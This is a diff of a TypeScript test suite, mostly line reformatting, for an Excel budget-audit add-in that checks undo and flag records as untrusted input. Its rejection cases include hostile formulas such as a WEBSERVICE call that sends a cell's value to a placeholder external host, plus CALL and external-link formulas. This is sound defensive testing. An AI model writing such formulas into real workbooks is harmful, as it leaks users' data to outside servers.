@@ -4,7 +4,12 @@ import { omBudget } from "../acceptance/workbooks";
 import { audit } from "../../src/core/engine";
 import { planApproval } from "../../src/core/plan/approval-plan";
 import { SETTING_FLAGS, SETTING_REVERT } from "../../src/excel/settings";
-import { isRestorableFormula, isWrittenFormula, validateFlagRecord, validateRevertRecord } from "../../src/excel/records";
+import {
+  isRestorableFormula,
+  isWrittenFormula,
+  validateFlagRecord,
+  validateRevertRecord,
+} from "../../src/excel/records";
 import type { Finding } from "../../src/core/model/finding";
 import { yangpu } from "../support/pack";
 import { bridgeFor } from "../support/office-bridge";
@@ -13,7 +18,16 @@ const SHEET = "运维预算表";
 /** Every cell's value, formula, number format, fill, plus notes: the whole visible state of the workbook. */
 const contents = (book: FakeWorkbook) =>
   JSON.stringify([
-    book.sheets.map((s) => [s.name, [...s.cells].map(([k, c]: [string, FakeCell]) => [k, c.value ?? null, c.formula ?? null, c.numberFormat ?? null, c.fill ?? null])]),
+    book.sheets.map((s) => [
+      s.name,
+      [...s.cells].map(([k, c]: [string, FakeCell]) => [
+        k,
+        c.value ?? null,
+        c.formula ?? null,
+        c.numberFormat ?? null,
+        c.fill ?? null,
+      ]),
+    ]),
     [...book.notes],
   ]);
 const cell = (book: FakeWorkbook, a1: string) => {
@@ -36,7 +50,18 @@ async function approved(version = "1.18") {
 }
 
 function finding(cellRef: string): Finding {
-  return { rule: "om.hardware-rate", severity: "error", sheet: SHEET, row: Number(cellRef.slice(1)), cell: cellRef, message: "费率超标", messageEn: "rate over the cap", actual: "1", limit: "0", citation: "§1" };
+  return {
+    rule: "om.hardware-rate",
+    severity: "error",
+    sheet: SHEET,
+    row: Number(cellRef.slice(1)),
+    cell: cellRef,
+    message: "费率超标",
+    messageEn: "rate over the cap",
+    actual: "1",
+    limit: "0",
+    citation: "§1",
+  };
 }
 
 describe("撤销核定 never destroys an edit", () => {
@@ -75,7 +100,16 @@ describe("撤销核定 never destroys an edit", () => {
   test("text that looks like a number or a formula is put back as the same text", async () => {
     const book = new FakeWorkbook("1.18");
     book.addSheet(SHEET).setRows([["x"]]);
-    book.settings.set(SETTING_REVERT, JSON.stringify({ v: 2, cells: [[SHEET, "B2", null, "4%", null, 0.04], [SHEET, "B3", null, "=A1 看这里", "=E3*F3", 0]] }));
+    book.settings.set(
+      SETTING_REVERT,
+      JSON.stringify({
+        v: 2,
+        cells: [
+          [SHEET, "B2", null, "4%", null, 0.04],
+          [SHEET, "B3", null, "=A1 看这里", "=E3*F3", 0],
+        ],
+      }),
+    );
     book.sheet(SHEET)!.ensure(1, 1).value = 0.04;
     book.sheet(SHEET)!.ensure(2, 1).formula = "=E3*F3";
     const outcome = await bridgeFor(book).revertChanges();
@@ -114,12 +148,15 @@ describe("the saved undo record is untrusted input", () => {
     ["an array", [[SHEET, "G6"]]],
     ["an extra field", { ...good(), script: "x" }],
     ["no cells", { v: 2, cells: [] }],
-    ["too many cells", { v: 2, cells: Array.from({ length: 50_001 }, (_, i) => [SHEET, `A${i + 1}`, null, 1, null, 1]) }],
+    [
+      "too many cells",
+      { v: 2, cells: Array.from({ length: 50_001 }, (_, i) => [SHEET, `A${i + 1}`, null, 1, null, 1]) },
+    ],
     ["a range instead of a cell", good({ 1: "A1:Z1000" })],
     ["a sheet-qualified address", good({ 1: "'其他'!G6" })],
     ["an address beyond the grid", good({ 1: "XFE1" })],
     ["a non-string sheet", good({ 0: 7 })],
-    ["an arbitrary formula as what was written", good({ 4: "=WEBSERVICE(\"http://x.example/\"&A1)" })],
+    ["an arbitrary formula as what was written", good({ 4: '=WEBSERVICE("http://x.example/"&A1)' })],
     ["a sum as what was written", good({ 4: "=SUM(A1:A9)" })],
     ["a non-numeric written value", good({ 5: "8000" })],
     ["an external-link previous formula", good({ 2: "='[秘密.xlsx]Sheet1'!A1" })],
@@ -147,20 +184,47 @@ describe("the saved undo record is untrusted input", () => {
 
   test("a record whose cell does not hold what it claims was written leaves the cell alone", async () => {
     const { book, bridge, before } = crafted(good({ 1: "G7" }));
-    expect(await bridge.revertChanges()).toEqual({ restored: 0, skipped: [{ sheet: SHEET, address: "G7", before: "10000" }] });
+    expect(await bridge.revertChanges()).toEqual({
+      restored: 0,
+      skipped: [{ sheet: SHEET, address: "G7", before: "10000" }],
+    });
     expect(contents(book)).toEqual(before);
   });
 
   test("the shapes the planners write are accepted, and nothing else", () => {
     // Two cells, or three for a per-unit 原值's whole base (原值 × 数量) × the rate cell or the cap, rounded or not.
-    for (const f of ["=E6*F6", "=ROUND(E6*F6,2)", "=E13*20000", "=E6*0.08", "=$E$6*$F$6", "=C12*D12", "=C6*D6*F6", "=C6*D6*0.08", "=ROUND(C6*D6*F6,2)", "=ROUND(E6*F6,6)"]) {
+    for (const f of [
+      "=E6*F6",
+      "=ROUND(E6*F6,2)",
+      "=E13*20000",
+      "=E6*0.08",
+      "=$E$6*$F$6",
+      "=C12*D12",
+      "=C6*D6*F6",
+      "=C6*D6*0.08",
+      "=ROUND(C6*D6*F6,2)",
+      "=ROUND(E6*F6,6)",
+    ]) {
       expect([f, isWrittenFormula(f)]).toEqual([f, true]);
     }
-    for (const f of ["=E6*F6+1", "=SUM(E6:F6)", "=E6", "=C6*D6*E6*F6", "=C6*0.5*F6", "='x'!E6*F6", "=ROUND(E6*F6,2)*2", "E6*F6", "=e6*f6 ", "=C6*D6*F6+1"]) {
+    for (const f of [
+      "=E6*F6+1",
+      "=SUM(E6:F6)",
+      "=E6",
+      "=C6*D6*E6*F6",
+      "=C6*0.5*F6",
+      "='x'!E6*F6",
+      "=ROUND(E6*F6,2)*2",
+      "E6*F6",
+      "=e6*f6 ",
+      "=C6*D6*F6+1",
+    ]) {
       expect([f, isWrittenFormula(f)]).toEqual([f, false]);
     }
-    for (const f of ["=SUM(G5:G8)", "=E5*0.1", "=ROUND(E5*F5/10000,2)", "='运维 预算'!E5*F5", '=IF(E5>0,"有","无")']) expect([f, isRestorableFormula(f)]).toEqual([f, true]);
-    for (const f of ['=WEBSERVICE("u")', "=[1]Sheet1!A1", '=CALL("a","b")', "=INDIRECT(A1)", "=E5\n*2", "x"]) expect([f, isRestorableFormula(f)]).toEqual([f, false]);
+    for (const f of ["=SUM(G5:G8)", "=E5*0.1", "=ROUND(E5*F5/10000,2)", "='运维 预算'!E5*F5", '=IF(E5>0,"有","无")'])
+      expect([f, isRestorableFormula(f)]).toEqual([f, true]);
+    for (const f of ['=WEBSERVICE("u")', "=[1]Sheet1!A1", '=CALL("a","b")', "=INDIRECT(A1)", "=E5\n*2", "x"])
+      expect([f, isRestorableFormula(f)]).toEqual([f, false]);
   });
 
   test("applyChanges writes records that validate, and refuses a plan whose writes could not be undone safely", async () => {
@@ -168,7 +232,9 @@ describe("the saved undo record is untrusted input", () => {
     expect(() => validateRevertRecord(book.settings.get(SETTING_REVERT), new Set([SHEET]))).not.toThrow();
     const fresh = fakeFromSnapshot(omBudget(), "1.18");
     const before = contents(fresh);
-    const evil = changes.map((c, i) => (i === 0 ? { ...c, after: { formula: '=WEBSERVICE("http://x.example/")', value: 0 } } : c));
+    const evil = changes.map((c, i) =>
+      i === 0 ? { ...c, after: { formula: '=WEBSERVICE("http://x.example/")', value: 0 } } : c,
+    );
     await expect(bridgeFor(fresh).applyChanges(evil)).rejects.toThrow(/无法撤销.*未写入/);
     expect(contents(fresh)).toEqual(before);
     expect(fresh.settings.has(SETTING_REVERT)).toBe(false);
@@ -194,13 +260,19 @@ describe("the saved flag record is untrusted input", () => {
   test.each([
     ["not JSON", "]["],
     ["a colour that is not #RRGGBB", { v: 1, sheets: { [SHEET]: [["G6", "#FFC7CE", "red", null]] } }],
-    ["a pattern outside Excel's enum", { v: 1, sheets: { [SHEET]: [["G6", "#FFC7CE", "#FFFFFF|Evil|#000000", null]] } }],
+    [
+      "a pattern outside Excel's enum",
+      { v: 1, sheets: { [SHEET]: [["G6", "#FFC7CE", "#FFFFFF|Evil|#000000", null]] } },
+    ],
     ["a flag colour the add-in never uses", { v: 1, sheets: { [SHEET]: [["G6", "#123456", "", null]] } }],
     ["a range", { v: 1, sheets: { [SHEET]: [["A1:Z9999", "#FFC7CE", "", null]] } }],
     ["an over-long note", { v: 1, sheets: { [SHEET]: [["G6", "#FFC7CE", "", "x".repeat(40_000)]] } }],
     ["a note that is not text", { v: 1, sheets: { [SHEET]: [["G6", "#FFC7CE", "", 5]] } }],
     ["another version", { v: 2, sheets: {} }],
-    ["too many cells", { v: 1, sheets: { [SHEET]: Array.from({ length: 50_001 }, (_, i) => [`A${i + 1}`, "#FFC7CE", "", null]) } }],
+    [
+      "too many cells",
+      { v: 1, sheets: { [SHEET]: Array.from({ length: 50_001 }, (_, i) => [`A${i + 1}`, "#FFC7CE", "", null]) } },
+    ],
   ])("%s: 清除标记 refuses it with a message and changes no cell", async (_, record) => {
     const { book, bridge } = await flagged();
     book.settings.set(SETTING_FLAGS, typeof record === "string" ? record : JSON.stringify(record));
@@ -219,7 +291,9 @@ describe("protected sheets", () => {
     const book = fakeFromSnapshot(omBudget(), "1.18");
     book.sheet(SHEET)!.protected = true;
     const before = contents(book);
-    const err = await bridgeFor(book).flagFindings([finding("G6")]).catch((e: unknown) => e);
+    const err = await bridgeFor(book)
+      .flagFindings([finding("G6")])
+      .catch((e: unknown) => e);
     expect(String((err as Error).message)).toMatch(protectedMessage);
     expect(String((err as Error).message)).toMatch(/未写入任何内容/);
     expect((err as { messageEn: string }).messageEn).toMatch(/"运维预算表" is protected.*Review → Unprotect Sheet/);
@@ -272,14 +346,18 @@ describe("protected sheets", () => {
     await bridge.writeResultsSheet([finding("G6")], "zh-CN");
     book.sheet("审核结果")!.protected = true;
     const now = contents(book);
-    await expect(bridge.writeResultsSheet([finding("G6"), finding("G7")], "zh-CN")).rejects.toThrow(/工作表“审核结果”受保护/);
+    await expect(bridge.writeResultsSheet([finding("G6"), finding("G7")], "zh-CN")).rejects.toThrow(
+      /工作表“审核结果”受保护/,
+    );
     expect(contents(book)).toEqual(now);
   });
 
   test("a workbook whose structure is protected gets a message about that when the 审核结果 sheet is added", async () => {
     const book = fakeFromSnapshot(omBudget(), "1.18");
     book.structureProtected = true;
-    const err = await bridgeFor(book).writeResultsSheet([finding("G6")], "zh-CN").catch((e: unknown) => e);
+    const err = await bridgeFor(book)
+      .writeResultsSheet([finding("G6")], "zh-CN")
+      .catch((e: unknown) => e);
     expect(String((err as Error).message)).toMatch(/工作簿的结构受保护，无法添加“审核结果”工作表.*保护工作簿/);
     expect((err as { messageEn: string }).messageEn).toMatch(/structure is protected/);
     expect(book.sheets.map((s) => s.name)).toEqual([SHEET]);
